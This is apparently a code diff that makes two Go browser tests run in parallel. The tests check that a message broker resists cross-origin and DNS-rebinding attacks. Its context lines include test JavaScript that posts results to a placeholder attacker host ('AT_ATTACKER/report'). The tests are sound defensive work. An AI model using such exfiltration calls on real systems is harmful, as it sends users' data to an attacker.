@@ -145,6 +145,7 @@ const read = (url, options) => fetch(url, options).then(r => r.text().then(t => 
 // empties, publishes, configures and reads nothing, at a broker on which everybody else may
 // do everything. A server without the checks receives the same requests.
 func TestForeignPageInABrowser(t *testing.T) {
+	t.Parallel()
 	chromium := browser(t)
 	b := start(t, options{open: true})
 	require.Equal(t, 200, b.ask("", "POST", "/topic/create?topic=orders", "").status)
@@ -196,6 +197,7 @@ const report = (name, text) => fetch("AT_ATTACKER/report?" + name, {method: "POS
 // broker after it was loaded (DNS rebinding) is of the same origin for the browser. The
 // broker knows its own names, and answers nothing but the probes.
 func TestReboundNameInABrowser(t *testing.T) {
+	t.Parallel()
 	chromium := browser(t)
 	b := start(t, options{open: true})
 	require.Equal(t, 200, b.ask("", "POST", "/topic/create?topic=orders", "").status)
